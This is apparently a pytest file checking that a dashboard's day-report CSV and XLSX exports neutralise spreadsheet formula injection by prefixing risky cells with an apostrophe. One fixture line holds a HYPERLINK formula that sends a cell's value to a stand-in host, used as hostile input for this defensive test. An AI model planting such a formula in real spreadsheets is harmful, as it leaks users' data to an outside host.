"""The day report's files never hand a spreadsheet a formula, whatever the site file says."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from station.dashboard.cells import safe_cell, safe_row
from station.dashboard.days import Day
from station.dashboard.export_files import to_csv, to_xlsx
from station.dashboard.report import DayReport, Line

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def report(small_site) -> DayReport:
    site = dataclasses.replace(small_site, name=FORMULA)
    lines = [Line(building="10", grid="=1+1", category="express", received=3),
             Line(building="@SUM(A1)", grid="-2", category="meal", received=1)]
    return DayReport(site=site, day=Day(datetime(2026, 11, 27).date(), site.timezone),
                     as_of=datetime(2026, 11, 27, 8, tzinfo=UTC), lines=lines)


def test_a_cell_that_would_run_as_a_formula_is_written_as_text():
    assert [safe_cell(t) for t in ("=1+1", "+1", "-1", "@A1", "\tx", "10", "", None)] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "10", "", ""]
    assert safe_row(["=A1", 3, None]) == ["'=A1", 3, None]


def test_the_day_csv_neutralises_site_strings(small_site):
    rows = list(csv.reader(io.StringIO(to_csv(report(small_site)).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=1+1" in cells and "'@SUM(A1)" in cells and "'-2" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_day_xlsx_holds_no_formula(small_site):
    book = load_workbook(io.BytesIO(to_xlsx(report(small_site))))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book["About"]["B1"].value == "'" + FORMULA
